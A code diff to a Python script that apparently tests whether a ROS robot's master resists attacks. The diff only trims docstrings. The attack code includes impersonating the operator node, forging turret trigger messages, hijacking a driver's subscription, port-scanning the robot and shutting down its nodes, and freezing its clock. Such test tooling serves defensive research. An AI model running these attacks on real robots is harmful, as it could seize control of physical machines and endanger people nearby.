@@ -1,8 +1,8 @@
 """Try attacks that any host on the robot's network can make with plain Python: attacker.py [ATTACK …]
 
-The attacker knows the master's address (ROS_MASTER_URI), and the names of the robot's nodes and topics, which are the
-same on all such robots. The program prints one JSON object for each attack: `attack`, `succeeded`, `tried`, `answer`.
-Behind a plain master each attack succeeds.
+The attacker knows the master's address, and the names of nodes and topics, which are the same on all such robots. The
+program prints one JSON object for each attack: `attack`, `succeeded`, `tried`, `answer`. Behind a plain master each
+attack succeeds.
 """
 
 import contextlib
@@ -45,7 +45,7 @@ class _Transport(xmlrpc.client.Transport):
 
 
 def call(uri, method, *parameters):
-    """Make one XML-RPC call; return the answer, or the failure in the form of an answer."""
+    """Return the answer, or the failure in the form of an answer."""
     try:
         with xmlrpc.client.ServerProxy(uri, transport=_Transport(), allow_none=True) as server:
             return list(getattr(server, method)(*parameters))
@@ -54,28 +54,24 @@ def call(uri, method, *parameters):
 
 
 def granted(answer):
-    """Return whether a ROS API reported success."""
     return bool(answer) and answer[0] == 1
 
 
 def look_around():
-    """List every node, topic and service of the robot."""
     answer = call(MASTER, "getSystemState", ME)
     return granted(answer), "getSystemState()", answer
 
 
 def take_over_the_operator():
-    """Register a node under the operator's name, so that ROS shuts the real one down."""
+    """ROS shuts the real node of this name down."""
     return forge("ocu")
 
 
 def forge_the_trigger():
-    """Publish on the trigger topic under the attacker's own name."""
     return forge(ME.strip("/"))
 
 
 def forge(name):
-    """Run a rospy node that fires."""
     command = ["/usr/bin/python3", str(Path(__file__).with_name("forger.py")), name]
     try:
         done = subprocess.run(
@@ -101,7 +97,7 @@ def forge(name):
 
 
 def replace_a_driver():
-    """Register under the turret driver's name, to receive the operator's commands."""
+    """The driver's name receives the operator's commands."""
     arguments = ("/landshark_turret", "/landshark_control/trigger", "*", MY_API)
     answer = call(MASTER, "registerSubscriber", *arguments)
     if granted(answer):  # undo the registration
@@ -110,7 +106,7 @@ def replace_a_driver():
 
 
 def watch_the_battery():
-    """Read the charge of the battery, which is this host's task. Wait until the robot publishes it."""
+    """Wait until the robot publishes the charge, which this host's task is to read."""
     deadline, pause = time.monotonic() + ROBOT_LIMIT, threading.Event()
     while True:
         succeeded, tried, answer = subscribe(BATTERY)
@@ -124,7 +120,6 @@ def spy_on_gps():
 
 
 def subscribe(topic):
-    """Receive one message of a topic, as a subscriber would."""
     tried = f"registerSubscriber({ME}, {topic})"
     answer = call(MASTER, "registerSubscriber", ME, topic, "*", MY_API)
     if not granted(answer):
@@ -153,7 +148,6 @@ def reads(host, port, topic):
 
 
 def exactly(peer, size):
-    """Receive exactly this number of bytes."""
     if size > 1 << 20:
         raise OSError("no ROS header")
     data = b""
@@ -193,7 +187,7 @@ def try_every_port():
 
 
 def go_past_the_master():
-    """Try all ports of the robot to find a node, and call `shutdown` on the first one that answers."""
+    """Call `shutdown` on the first port of the robot that answers as a node."""
     tried = f"shutdown() of a node, found by a port scan of {ROBOT}"
     ports = open_ports(ROBOT, NODE_PORTS)
     for port in ports:
@@ -205,7 +199,7 @@ def go_past_the_master():
 
 
 def open_ports(host, ports, at_once=800, seconds=0.25):
-    """Return the ports that accept a connection, trying `at_once` ports at a time."""
+    """Try `at_once` ports at a time."""
     found = []
     for start in range(0, len(ports), at_once):
         with selectors.DefaultSelector() as selector, contextlib.ExitStack() as opened:
@@ -224,7 +218,7 @@ def open_ports(host, ports, at_once=800, seconds=0.25):
 
 
 def stop_the_clock():
-    """Set the parameter that makes later nodes wait for a clock that never ticks."""
+    """Later nodes wait for a clock that never ticks."""
     answer = call(MASTER, "setParam", ME, "/use_sim_time", True)
     if granted(answer):
         call(MASTER, "deleteParam", ME, "/use_sim_time")
